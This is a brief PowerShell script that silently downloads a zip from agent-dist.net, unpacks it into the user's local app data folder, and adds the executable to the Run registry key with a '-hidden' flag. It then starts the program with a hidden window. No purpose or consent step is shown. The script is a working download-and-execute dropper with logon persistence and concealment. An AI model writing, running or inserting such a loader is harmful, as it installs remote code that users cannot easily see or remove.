$ProgressPreference = 'SilentlyContinue'
$url = 'https://agent-dist.net/win/agent.zip'
$dst = Join-Path $env:LOCALAPPDATA 'Agent'
Invoke-WebRequest $url -OutFile "$env:TEMP\a.zip"
Expand-Archive "$env:TEMP\a.zip" $dst -Force
Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name Agent -Value "$dst\agent.exe -hidden"
Start-Process "$dst\agent.exe" -WindowStyle Hidden
